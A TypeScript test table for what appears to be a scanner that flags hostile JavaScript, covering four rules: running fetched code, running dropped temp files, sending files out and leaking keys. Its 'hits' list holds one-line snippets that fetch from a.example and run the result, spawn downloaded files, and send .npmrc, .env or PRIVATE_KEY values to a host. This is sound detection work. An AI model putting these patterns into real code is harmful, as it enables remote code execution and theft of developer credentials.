// biome-ignore-all lint/suspicious/noTemplateCurlyInString: it is code to be looked at
import { testTable } from './table.ts';

const fetched = "const r = await fetch('https://a.example');";
const temporary = "const p = path.join(os.tmpdir(), 'x'); require('https').get(u, (r) =>";

testTable({
  'runs-fetched': {
    hits: [
      ['a text as a command', `${fetched} const t = await r.text(); if (t) execSync(t);`],
      ['a field of an answer', `${fetched} const { run } = await r.json(); execSync(run, {})`],
      ['a field by another name', `${fetched} const { run: task } = await r.json(); cp.exec(task)`],
      ['by a chain', 'fetch(u).then((r) => r.text()).then((t) => eval(t))'],
      [
        'piece by piece',
        "https.get(u, (r) => { r.on('data', (d) => (b += d)); r.on('end', () => child_process.exec(b)) })",
      ],
      ['by an interpreter', "fetch(u).then((r) => r.text()).then((code) => spawn('python3', ['-c', code]))"],
      ['of a client', "const r = await axios.get(u); new Function('require', r.data.model)(require)"],
    ],
    misses: [
      ['what is printed', `${fetched} const t = await r.text(); console.log(t); execSync('git log')`],
      ['what a child says', "https.get(u); git.stdout.on('data', (d) => (out += d)); exec(out)"],
      ['another name', `${fetched} const t = await r.text(); execSync(text)`],
      ['a pattern', `${fetched} const t = await r.text(); pattern.exec(t)`],
    ],
  },
  'runs-dropped': {
    hits: [
      ['what is fetched', `${temporary} r.pipe(fs.createWriteStream(p)).on('close', () => spawn(p)))`],
      ['a module', `${temporary} r.on('end', () => { fs.writeFileSync(p, b); require(p) }))`],
      ['by an interpreter', `${temporary} fs.writeFileSync(p, r)); execFile('python3', [p])`],
      ['by a shell', `${temporary} fs.writeFileSync(p, r)); exec(\`node \${p}\`)`],
      [
        'what is decoded',
        "const out = path.join(os.tmpdir(), 'f'); fs.writeFileSync(out, Buffer.from(s, 'base64')); spawn(out, [])",
      ],
    ],
    misses: [
      [
        'what it was handed',
        "const p = path.join(os.tmpdir(), 'x'); fs.writeFileSync(p, lines); spawn('sh', [p])",
      ],
      [
        'in a folder of its own',
        "const p = path.join(__dirname, 'x'); require('https'); fs.writeFileSync(p, b); spawn(p)",
      ],
      ['what is not started', `${temporary} r.pipe(fs.createWriteStream(p))); spawn('git', [])`],
    ],
  },
  'sends-file': {
    hits: [
      ['settings of npm', "const f = home + '/.npmrc'; https.request(o).end(fs.readFileSync(f))", '/.npmrc'],
      [
        'as a body',
        "fetch(u, { body: JSON.stringify({ a: readFileSync('.env', 'utf8') }) }); fs.readFileSync('.env')",
        '.env',
      ],
    ],
    misses: [
      ['another file', "https.request(o).end(fs.readFileSync('report.xml'))"],
      ['settings that are read', "const own = parse(fs.readFileSync('.env')); https.request(o).end(body)"],
      ['a server of files', "response.end(fs.readFileSync(join(root, '.env'))); serve()"],
    ],
  },
  'sends-keys': {
    hits: [
      [
        'out of settings',
        "const m = /PRIVATE_KEY=(.+)/.exec(fs.readFileSync('.env', 'utf8')); https.get(u + m[1])",
        'from files of settings',
      ],
    ],
    misses: [
      ['a linter', "if (/PRIVATE_KEY=/.test(fs.readFileSync('.env', 'utf8'))) warn()"],
      ['other words', "/PORT=(.+)/.exec(fs.readFileSync('.env', 'utf8')); https.get(u)"],
    ],
  },
});
